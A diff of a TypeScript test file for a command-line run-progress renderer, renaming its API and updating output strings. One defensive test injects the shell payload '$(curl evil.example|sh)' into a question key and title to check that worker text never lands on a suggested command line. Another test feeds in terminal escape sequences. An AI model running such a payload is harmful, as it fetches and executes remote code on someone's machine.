@@ -1,5 +1,5 @@
 import { createEvent, type EventDraft, type RunEvent } from '@pilothouse/contract';
-import { atWorkLine, Progress } from './progress-lines.ts';
+import { activityLine, Progress } from './progress-lines.ts';
 import { styleFor } from './text-style.ts';
 
 const at = new Date('2026-05-04T12:00:00.000Z');
@@ -29,92 +29,92 @@ const queued = (steps?: number) => {
 };
 const progress = () => {
   const run = new Progress(styleFor(false));
-  run.tell(queued(24));
+  run.update(queued(24));
   return run;
 };
 
-test('a step that was done is one line: mark, number, title, time, and in short what was read', () => {
+test('a completed step is one line: mark, number, title, duration, short output', () => {
   const run = progress();
-  expect(run.tell(acting(2, 'Read the catalogue'))).toEqual({
+  expect(run.update(acting(2, 'Read the catalogue'))).toEqual({
     lines: [],
-    atWork: { text: ' 3/24  Read the catalogue', since: at.toISOString() },
+    activity: { text: ' 3/24  Read the catalogue', since: at.toISOString() },
   });
   const branch = { step: 2, id: null, branch: 'left', n: 1, action: 'click', title: 'Open' } as const;
-  expect(run.tell(numbered(createEvent('branch.acting', 'left: Open', branch, at)))).toMatchObject({
-    atWork: { text: '  left  Open' },
+  expect(run.update(numbered(createEvent('branch.acting', 'left: Open', branch, at)))).toMatchObject({
+    activity: { text: '  left  Open' },
   });
-  const { lines, atWork } = run.tell(acted(2, [{ sku: 'A' }, { sku: 'B' }]));
+  const { lines, activity } = run.update(acted(2, [{ sku: 'A' }, { sku: 'B' }]));
   expect(lines).toHaveLength(1);
   expect(lines[0]).toMatch(/^✓ {2}3\/24 {2}Read the catalogue +0\.8 s {2}2 rows \(sku\)$/);
-  expect(atWork).toBeNull();
+  expect(activity).toBeNull();
 });
 
 test('a step that failed has its cross and code, and the run that failed says at which step', () => {
   const run = progress();
-  run.tell(acting(3, 'Log in'));
-  const [line] = run.tell(
+  run.update(acting(3, 'Log in'));
+  const [line] = run.update(
     numbered(createEvent('step.failed', 'no', { step: 3, id: null, error, ms: 30_000 }, at)),
   ).lines;
   expect(line).toMatch(/^✗ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND$/);
   expect(run.failure).toBeNull();
-  run.tell(numbered(createEvent('run.failed', 'no', { error, step: 3 }, at)));
+  run.update(numbered(createEvent('run.failed', 'no', { error, step: 3 }, at)));
   expect(run.failure).toEqual({ step: 3, at: '4', title: 'Log in' });
 });
 
 test('where control flow decides how many steps there are, a line says where its step stands', () => {
   const run = new Progress(styleFor(false));
-  run.tell(queued());
+  run.update(queued());
   const title = 'Read';
   const at = (step: number, at?: string) => ({ step, ...(at !== undefined && { at }), id: null });
   const begin = (place: { step: number; id: null }) =>
     numbered(createEvent('step.acting', title, { ...place, action: 'click', title, summary: title }, new Date(0)));
   const outcome = { rung: 0, ms: 840, located: null, page: null };
   const numbers = [at(0), at(1, '2[1]/1'), at(2, '2[2]/1'), at(3, '3')].map((place) => {
-    run.tell(begin(place));
-    const [line = ''] = run.tell(
+    run.update(begin(place));
+    const [line = ''] = run.update(
       numbered(createEvent('step.acted', 'done', { ...place, ...outcome }, new Date(0))),
     ).lines;
     return line.split(/ +/)[1];
   });
   expect(numbers).toEqual(['1', '2[1]/1', '2[2]/1', '3']);
-  run.tell(numbered(createEvent('run.failed', 'no', { error, step: 2 }, new Date(0))));
+  run.update(numbered(createEvent('run.failed', 'no', { error, step: 2 }, new Date(0))));
   expect(run.failure).toEqual({ step: 2, at: '2[2]/1', title });
 });
 
-test('a worker that went away is told, and that another is waited for', () => {
+test('a lost worker is shown, and the wait for another one', () => {
   const lost = numbered(createEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, at));
-  expect(progress().tell(lost)).toEqual({
-    lines: ['↻ The worker went away: back in the queue, for another worker'],
-    atWork: { text: 'waiting for another worker', since: at.toISOString() },
+  expect(progress().update(lost)).toEqual({
+    lines: ['↻ requeued for another worker: The worker went away'],
+    activity: { text: 'waiting for another worker', since: at.toISOString() },
   });
 });
 
 test('titles and messages of others cannot act on the terminal', () => {
   const run = progress();
-  run.tell(acting(0, 'Open \u001b]0;mine\u0007the page\r'));
-  expect(run.tell(acted(0)).lines[0]).toContain('Open the page');
+  run.update(acting(0, 'Open \u001b]0;mine\u0007the page\r'));
+  expect(run.update(acted(0)).lines[0]).toContain('Open the page');
   const warning = numbered(createEvent('log', 'x\u001b[2Jy', { facts: {} }, at, 'warn'));
-  expect(run.tell(warning).lines).toEqual(['! xy']);
+  expect(run.update(warning).lines).toEqual(['! xy']);
 });
 
-test('what a newer API says in a form not known here is passed over', () => {
+test('event data that does not match the schema is ignored', () => {
   const run = progress();
-  expect(run.tell({ ...acted(0), data: { of: 'another form' } })).toEqual({ lines: [] });
-  expect(run.tell({ ...acted(0), type: 'run.dreaming' as never })).toEqual({ lines: [] });
+  expect(run.update({ ...acted(0), data: { of: 'another form' } })).toEqual({ lines: [] });
+  expect(run.update({ ...acted(0), type: 'run.dreaming' as never })).toEqual({ lines: [] });
 });
 
 test('debug and info logs are for `logs`', () => {
-  expect(progress().tell(numbered(createEvent('log', 'quiet', { facts: {} }, at))).lines).toEqual([]);
+  expect(progress().update(numbered(createEvent('log', 'quiet', { facts: {} }, at))).lines).toEqual([]);
 });
 
-test('what is at work shows its seconds when there are some', () => {
+test('the activity line shows its duration from two seconds on', () => {
   const work = { text: 'Log in', since: at.toISOString() };
-  expect(atWorkLine(work, new Date(at.getTime() + 900))).toBe('Log in');
-  expect(atWorkLine(work, new Date(at.getTime() + 3_400))).toBe('Log in  3 s');
-  expect(atWorkLine(work, new Date(at.getTime() + 65_000))).toBe('Log in  1 min 05 s');
+  expect(activityLine(work, new Date(at.getTime() + 900))).toBe('Log in');
+  expect(activityLine(work, new Date(at.getTime() + 3_400))).toBe('Log in  3 s');
+  expect(activityLine(work, new Date(at.getTime() + 65_000))).toBe('Log in  1 min 05 s');
 });
 
-test('a question is shown with how to answer it', () => {
+test('a question is shown with the commands that answer it', () => {
   const run = progress();
   const question = {
     step: 4,
@@ -127,35 +127,35 @@ test('a question is shown with how to answer it', () => {
     ],
     until: at.toISOString(),
   };
-  const asked = run.tell(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
+  const asked = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
   expect(asked.lines).toEqual([
     '? Step 5 may have happened before',
-    '  npx pilothouse answer 0197f3c2-1a2b continue --question 2.4.0',
+    '  npx pilothouse runs answer 0197f3c2-1a2b continue --question 2.4.0',
     '    It happened',
-    '  npx pilothouse answer 0197f3c2-1a2b repeat --question 2.4.0',
+    '  npx pilothouse runs answer 0197f3c2-1a2b repeat --question 2.4.0',
     '    It did not',
-    '  npx pilothouse answer 0197f3c2-1a2b dismiss --question 2.4.0',
-    '    End the run as completed: the rest was seen to by hand',
+    '  npx pilothouse runs answer 0197f3c2-1a2b complete --question 2.4.0',
+    '    Mark the run as completed',
   ]);
-  expect(asked.atWork?.text).toBe('waiting for a person');
-  // An API of before names none.
+  expect(asked.activity?.text).toBe('needs input');
+  // An API that returns no key.
   const { key, ...unnamed } = question;
-  expect(run.tell(numbered(createEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
-    '  npx pilothouse answer 0197f3c2-1a2b continue',
+  expect(run.update(numbered(createEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
+    '  npx pilothouse runs answer 0197f3c2-1a2b continue',
   );
-  // Nothing that a worker says is pasted with a command.
+  // Text of a worker is never on the line of a command.
   const evil = '$(curl evil.example|sh)';
   const choices = [{ choice: 'continue' as const, title: evil }];
-  const said = { ...question, key: `0.0@${evil}`, choices };
-  const shown = run.tell(numbered(createEvent('run.awaiting_user', question.reason, said, at))).lines;
+  const hostile = { ...question, key: `0.0@${evil}`, choices };
+  const shown = run.update(numbered(createEvent('run.awaiting_user', question.reason, hostile, at))).lines;
   const commands = shown.filter((line) => line.includes('npx'));
   expect(commands).toEqual([
-    '  npx pilothouse answer 0197f3c2-1a2b continue',
-    '  npx pilothouse answer 0197f3c2-1a2b dismiss',
+    '  npx pilothouse runs answer 0197f3c2-1a2b continue',
+    '  npx pilothouse runs answer 0197f3c2-1a2b complete',
   ]);
   expect(shown).toContain(`    ${evil}`);
   const resumed = { by: 'Ada', choice: 'repeat' as const, step: 4 };
-  expect(run.tell(numbered(createEvent('run.resumed', 'Ada answered: repeat', resumed, at))).lines).toEqual([
+  expect(run.update(numbered(createEvent('run.resumed', 'Ada answered: repeat', resumed, at))).lines).toEqual([
     '· Ada answered: repeat',
   ]);
 });
